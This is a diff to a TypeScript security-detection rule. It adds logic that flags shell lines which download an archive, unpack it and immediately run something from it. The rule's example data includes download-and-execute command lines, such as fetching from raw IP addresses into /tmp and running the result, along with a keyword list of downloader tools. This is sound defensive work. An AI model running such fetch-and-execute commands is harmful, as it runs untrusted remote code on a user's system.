@@ -499,11 +499,31 @@ const shadyDownload = (d: Download): boolean => STAGING_DIR.test(d.out) || d.c.a
 
 const CERTUTIL_DECODE = /^[-/]decode(?:hex)?$/i;
 const WIN_DRIVE = /^[a-z]:\\/i;
+/** tar x…, unzip, 7z x: an archive unpacked. */
+const isUnpack = (c: Cmd): boolean =>
+  (c.name === 'tar' && c.args.some((a) => /^-?[a-wyz]{0,6}x/.test(a) || a === '--extract')) || c.name === 'unzip' || (c.name === '7z' && c.args[0] === 'x');
+/** Where an unpack writes: tar -C / --directory, unzip -d, else the working directory. */
+function unpackDir(c: Cmd): string {
+  const a = c.args;
+  for (let i = 0; i < a.length; i++) {
+    if ((a[i] === '-C' || a[i] === '-d' || a[i] === '--directory') && a[i + 1]) return a[i + 1]!;
+    if (a[i]!.startsWith('--directory=')) return a[i]!.slice(12);
+  }
+  return c.cwd;
+}
 function downloadThenRunFinding(ctx: CommandContext): Finding | null {
   // most command lines download nothing: the map is made at the first download
   let files: Map<string, Download> | null = null;
   const save = (out: string, by: string, c: Cmd): void => { (files ??= new Map()).set(baseName(out), { by, out, c }); };
+  // archives fetched and unpacked on the line: the directories they land in
+  let fetched: Cmd | null = null;
+  let unpacked: string[] | null = null;
   for (const c of ctx.cmds) {
+    if (fetched !== null && unpacked === null && isUnpack(c)) unpacked = [unpackDir(c)];
+    if (unpacked !== null && c !== fetched && !isUnpack(c) && unpacked.some((d) => c.first.startsWith(d.endsWith('/') ? d : `${d}/`))) {
+      const bad = STAGING_DIR.test(`${c.first}`) || fetched!.args.some((x) => RAW_IP_URL.test(x));
+      return { detail: `archive downloaded with ${fetched!.name}, unpacked and ${c.first} run right away${bad ? ' (staged in a temp directory or fetched from a raw IP)' : ''}`, score: bad ? 8 : 5 };
+    }
     // LOLBAS downloaders and decoders that write a file: certutil -urlcache URL OUT, bitsadmin /transfer … URL OUT, certutil -decode IN OUT
     if (c.name === 'certutil' || c.name === 'bitsadmin') {
       const pos = c.args.filter((x) => !WIN_FLAG.test(x));
@@ -514,6 +534,7 @@ function downloadThenRunFinding(ctx: CommandContext): Finding | null {
       continue;
     }
     if (isDownloader(c)) {
+      fetched = c;
       for (let i = 0; i < c.args.length; i++) {
         const a = c.args[i]!;
         let out = '';
@@ -2470,8 +2491,8 @@ const rules: Rule[] = [
     keywords: ['curl', 'wget', 'iwr', 'invoke-webrequest', 'fetch', 'aria2c', 'certutil', 'bitsadmin'],
     detect: downloadThenRunFinding,
     examples: {
-      flag: ['curl -fsSLo install.sh https://x.io/install.sh && bash install.sh', 'wget http://203.0.113.8/x -O /tmp/x && chmod +x /tmp/x && /tmp/x', 'curl -sL https://x.io/a.sh > a.sh; sh a.sh'],
-      pass: ['curl -o file.tar.gz https://example.com/file.tar.gz && tar xzf file.tar.gz', 'wget https://example.com/data.csv -O out.csv && wc -l out.csv', 'bash install.sh'],
+      flag: ['curl -fsSLo install.sh https://x.io/install.sh && bash install.sh', 'wget http://203.0.113.8/x -O /tmp/x && chmod +x /tmp/x && /tmp/x', 'curl -sL https://x.io/a.sh > a.sh; sh a.sh', 'wget -qO- http://198.51.100.3/t.tgz | tar xz -C /tmp && /tmp/t/start'],
+      pass: ['curl -o file.tar.gz https://example.com/file.tar.gz && tar xzf file.tar.gz', 'curl -L https://example.com/tool.tgz | tar xz -C ~/tools && ls ~/tools', 'wget https://example.com/data.csv -O out.csv && wc -l out.csv', 'bash install.sh'],
     },
   },
   {
